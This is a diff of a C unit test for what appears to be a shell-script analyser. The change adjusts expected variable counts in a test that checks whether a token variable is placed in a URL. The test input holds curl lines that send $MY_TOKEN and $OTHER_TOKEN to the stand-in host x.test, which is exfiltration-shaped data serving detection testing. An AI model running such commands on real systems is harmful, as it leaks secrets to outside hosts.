@@ -122,11 +122,11 @@ static void many_names_are_known_too(void **state) {
 		buf_printf(&b, "echo $N%c%c\n", 'A' + i / 8, 'A' + i % 8);
 	buf_add_str(&b, "echo $NAA $NEH\nMY_TOKEN=x\ncurl https://x.test/?t=$MY_TOKEN\n");
 	script_read(&a, buf_slice(&b), true, &s);
-	assert_int_equal(s.nvariables, 41);
+	assert_int_equal(s.nvariables, 40);
 	assert_false(s.traits[SCRIPT_IN_ADDRESS].set);
 	buf_add_str(&b, "curl https://x.test/?t=$OTHER_TOKEN\n");
 	script_read(&a, buf_slice(&b), true, &s);
-	assert_int_equal(s.nvariables, 42);
+	assert_int_equal(s.nvariables, 41);
 	assert_true(s.traits[SCRIPT_IN_ADDRESS].set);
 	buf_free(&b);
 	arena_free(&a);
